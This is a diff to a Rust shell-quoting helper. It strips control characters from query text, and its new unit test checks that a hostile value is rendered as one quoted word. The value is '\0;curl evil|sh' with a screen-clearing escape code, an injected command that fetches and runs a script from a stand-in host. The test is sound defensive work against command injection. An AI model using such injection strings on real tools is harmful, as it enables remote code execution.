@@ -17,12 +17,14 @@ fn line(namespace: Option<&str>, words: &[&str]) -> String {
 
 /// `web=2` needs no quotes, though some shells' own tools would add them.
 fn quoted(word: &str) -> String {
+    // A query may have any character; a terminal acts on some.
+    let word: String = word.chars().filter(|c| !c.is_control()).collect();
     let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_./:=@+,".contains(&byte);
     if !word.is_empty() && word.bytes().all(plain) {
-        return word.to_owned();
+        return word;
     }
-    // Only a NUL cannot be quoted, and no name has one.
-    shlex::try_quote(word).map_or_else(|_| word.to_owned(), Into::into)
+    // Only a NUL cannot be quoted, and none is left.
+    shlex::try_quote(&word).map_or_else(|_| String::new(), Into::into)
 }
 
 pub fn list(namespace: Option<&str>) -> String {
@@ -182,6 +184,12 @@ pub fn several(action: Several, places: &[Place]) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn whatever_a_query_has_in_it_is_one_word() {
+        let line = logs("shop", "qa", &[], "15m", "\0;curl evil|sh\u{1b}[2J", false);
+        assert_eq!(line, "outboard -n shop logs qa --since 15m --query ';curl evil|sh[2J'");
+    }
 
     #[test]
     fn every_change_has_a_command() {
